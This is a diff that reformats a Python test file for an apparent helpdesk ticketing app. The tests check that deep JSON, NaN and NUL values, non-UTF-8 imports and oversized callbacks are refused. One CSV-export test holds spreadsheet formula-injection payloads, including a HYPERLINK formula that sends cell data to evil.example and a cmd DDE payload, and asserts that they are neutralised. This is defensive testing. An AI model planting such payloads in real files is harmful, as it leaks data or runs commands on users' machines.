@@ -26,9 +26,18 @@ HUGE_ID = "9" * 30
 
 
 def ticket_data(account, **provider_fields) -> dict:
-    data = {"account": account.pk, "title": "VPN down", "description": "Nobody can connect.",
-            "requester_email": "ann@acme.test", "requester_name": "Ann", "priority": "high",
-            "impact": "", "status": "new", "due_at": "", "tags": ""}
+    data = {
+        "account": account.pk,
+        "title": "VPN down",
+        "description": "Nobody can connect.",
+        "requester_email": "ann@acme.test",
+        "requester_name": "Ann",
+        "priority": "high",
+        "impact": "",
+        "status": "new",
+        "due_at": "",
+        "tags": "",
+    }
     return {**data, **{f"{account.kind}-{name}": value for name, value in provider_fields.items()}}
 
 
@@ -53,10 +62,16 @@ def test_a_callback_for_an_account_id_past_the_column_is_not_found(client):
 
 
 # --- deep JSON in form fields -----------------------------------------------------------------
-@pytest.mark.parametrize(("kind", "field"), [
-    ("knight", "account_code_locators"), ("motadata", "custom_fields"), ("kapture", "extra_keys"),
-    ("keliweb", "customfields"), ("keliweb", "attachments"),
-])
+@pytest.mark.parametrize(
+    ("kind", "field"),
+    [
+        ("knight", "account_code_locators"),
+        ("motadata", "custom_fields"),
+        ("kapture", "extra_keys"),
+        ("keliweb", "customfields"),
+        ("keliweb", "attachments"),
+    ],
+)
 def test_json_nested_thousands_deep_in_a_provider_field_is_refused_on_the_field(
     agent_client, account_factory, kind, field
 ):
@@ -68,12 +83,15 @@ def test_json_nested_thousands_deep_in_a_provider_field_is_refused_on_the_field(
     assert not Ticket.objects.exists()
 
 
-@pytest.mark.parametrize(("value", "message"), [
-    ('{"1": NaN}', "NaN is not a number JSON allows"),
-    ('{"1": 1e999}', "Numbers must be finite"),
-    ('{"1": ' + "9" * 5000 + "}", "a value is too large"),
-    ('{"1": "\\u0000"}', "NUL"),
-])
+@pytest.mark.parametrize(
+    ("value", "message"),
+    [
+        ('{"1": NaN}', "NaN is not a number JSON allows"),
+        ('{"1": 1e999}', "Numbers must be finite"),
+        ('{"1": ' + "9" * 5000 + "}", "a value is too large"),
+        ('{"1": "\\u0000"}', "NUL"),
+    ],
+)
 def test_json_values_no_database_can_store_are_refused_on_the_field(
     agent_client, account_factory, value, message
 ):
@@ -91,9 +109,15 @@ def test_deep_json_in_account_settings_is_refused_on_the_field(superuser_client,
 
 
 def test_deep_json_in_a_settings_table_cell_is_refused_and_kept(superuser_client, sandbox):
-    data = account_form(sandbox, settings__tables="1", settings__all__rows="2",
-                        settings__all__key__0="deep", settings__all__value__0=DEEP,
-                        settings__all__key__1="queue", settings__all__value__1="support")
+    data = account_form(
+        sandbox,
+        settings__tables="1",
+        settings__all__rows="2",
+        settings__all__key__0="deep",
+        settings__all__value__0=DEEP,
+        settings__all__key__1="queue",
+        settings__all__value__1="support",
+    )
     del data["settings"]
     response = superuser_client.post(ADD_URL, data)
     assert response.status_code == 200
@@ -113,14 +137,17 @@ def test_a_forged_row_count_does_not_make_the_table_loop(superuser_client, sandb
 
 
 # --- import_accounts ----------------------------------------------------------------------------
-@pytest.mark.parametrize(("name", "content", "message"), [
-    ("accounts.json", b'\xff\xfe{"accounts": []}', "accounts.json is not UTF-8 text (byte 0"),
-    ("accounts.json", b"[" * 100_000 + b"]" * 100_000, "accounts.json nests deeper than 32 levels."),
-    ("accounts.yaml", b"accounts: " + b"[" * 100_000 + b"]" * 100_000, "nests deeper than 32 levels."),
-    ("accounts.yaml", b"accounts:\n" + b"".join(b"  " * i + b"- \n" for i in range(1, 1200)), "nests"),
-    ("accounts.json", b'{"accounts": [{"name": "K", "rate_limit": NaN}]}', "NaN is not a number"),
-    ("accounts.yaml", b"accounts:\n  - name: K\n    rate_limit: .nan\n", "Numbers must be finite"),
-])
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("accounts.json", b'\xff\xfe{"accounts": []}', "accounts.json is not UTF-8 text (byte 0"),
+        ("accounts.json", b"[" * 100_000 + b"]" * 100_000, "accounts.json nests deeper than 32 levels."),
+        ("accounts.yaml", b"accounts: " + b"[" * 100_000 + b"]" * 100_000, "nests deeper than 32 levels."),
+        ("accounts.yaml", b"accounts:\n" + b"".join(b"  " * i + b"- \n" for i in range(1, 1200)), "nests"),
+        ("accounts.json", b'{"accounts": [{"name": "K", "rate_limit": NaN}]}', "NaN is not a number"),
+        ("accounts.yaml", b"accounts:\n  - name: K\n    rate_limit: .nan\n", "Numbers must be finite"),
+    ],
+)
 def test_import_accounts_explains_a_file_it_cannot_read(tmp_path, name, content, message):
     path = tmp_path / name
     path.write_bytes(content)
@@ -141,8 +168,9 @@ def knight(account_factory):
 
 def test_an_unreadable_content_length_is_a_400(knight, client):
     account, secret = knight
-    response = client.post(callback_path(account, secret), b"{}", content_type="application/json",
-                           CONTENT_LENGTH="abc")
+    response = client.post(
+        callback_path(account, secret), b"{}", content_type="application/json", CONTENT_LENGTH="abc"
+    )
     assert response.status_code == 400
     assert not InboundEvent.objects.exists()
 
@@ -180,8 +208,15 @@ def test_a_chunked_callback_too_large_or_unreadable_is_refused(knight, client, s
 
 def test_an_over_long_status_is_stored_with_the_event_not_in_the_ticket(knight, client):
     account, secret = knight
-    ticket = Ticket.objects.create(account=account, title="Disk full", remote_id="K-1", revision=1,
-                                   synced_revision=1, sync_state="synced", remote_status="OPEN")
+    ticket = Ticket.objects.create(
+        account=account,
+        title="Disk full",
+        remote_id="K-1",
+        revision=1,
+        synced_revision=1,
+        sync_state="synced",
+        remote_status="OPEN",
+    )
     body = json.dumps({"ticketId": ticket.reference, "status": "S" * 5000})
     response = client.post(callback_path(account, secret), body, content_type="application/json")
     assert response.status_code == 200 and response.json()["applied"] is False
@@ -198,8 +233,10 @@ def test_a_non_utf8_or_nul_callback_is_stored_readably(knight, client):
     for body in (b"\xff\xfe\x00garbage", b'{"ticketId": "TC-1\\u0000"}'):
         assert client.post(path, body, content_type="application/json").status_code == 200
     notes = sorted(InboundEvent.objects.values_list("note", flat=True))
-    assert notes == ["Not usable JSON (Text may not contain NUL (\\u0000) characters.): stored, not applied.",
-                     "Not usable JSON (The text is not UTF-8.): stored, not applied."]
+    assert notes == [
+        "Not usable JSON (Text may not contain NUL (\\u0000) characters.): stored, not applied.",
+        "Not usable JSON (The text is not UTF-8.): stored, not applied.",
+    ]
     assert all("\x00" not in json.dumps(e.payload) for e in InboundEvent.objects.all())
 
 
@@ -207,16 +244,30 @@ def test_a_non_utf8_or_nul_callback_is_stored_readably(knight, client):
 def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised(account_factory, settings, tmp_path):
     settings.MEDIA_ROOT = tmp_path
     account = account_factory("kapture", name="=cmd|' /C calc'!A0")
-    titles = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3",
-              "\tTabbed", "\rReturn", "Plain title", "a=b stays"]
+    titles = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "@SUM(A1:A9)",
+        "+1+1",
+        "-2+3",
+        "\tTabbed",
+        "\rReturn",
+        "Plain title",
+        "a=b stays",
+    ]
     tickets = [Ticket.objects.create(account=account, title=title, revision=1) for title in titles]
     job = BulkJob.objects.create(action="export_csv", selection={"ids": [t.pk for t in tickets]})
     bulk.export_chunk(job, [t.pk for t in tickets])
     name = bulk.finish_export(job)
     rows = list(csv.reader(io.StringIO((tmp_path / name).read_bytes().decode(), newline="")))[1:]
     assert [row[1] for row in rows] == [
-        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(A1:A9)", "'+1+1", "'-2+3",
-        "'\tTabbed", "'\rReturn", "Plain title", "a=b stays",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "'@SUM(A1:A9)",
+        "'+1+1",
+        "'-2+3",
+        "'\tTabbed",
+        "'\rReturn",
+        "Plain title",
+        "a=b stays",
     ]
     assert {row[2] for row in rows} == {"'=cmd|' /C calc'!A0"}
 
@@ -225,11 +276,25 @@ def test_deep_json_in_the_admin_ticket_form_is_refused_on_the_field(superuser_cl
     from tickets.forms import TicketForm
 
     account = account_factory("knight")
-    form = TicketForm(data={"account": account.pk, "title": "VPN down", "priority": "medium",
-                            "status": "new", "tags": "[]", "extra": DEEP})
+    form = TicketForm(
+        data={
+            "account": account.pk,
+            "title": "VPN down",
+            "priority": "medium",
+            "status": "new",
+            "tags": "[]",
+            "extra": DEEP,
+        }
+    )
     assert form.errors["extra"] == ["The JSON nests deeper than 32 levels."]
-    data = {"account": account.pk, "title": "VPN down", "priority": "medium", "status": "new",
-            "tags": "[]", "extra__account_code_locators": DEEP}
+    data = {
+        "account": account.pk,
+        "title": "VPN down",
+        "priority": "medium",
+        "status": "new",
+        "tags": "[]",
+        "extra__account_code_locators": DEEP,
+    }
     response = superuser_client.post(reverse("admin:tickets_ticket_add"), data)
     assert response.status_code == 200
     assert "The JSON nests deeper than 32 levels." in response.content.decode()
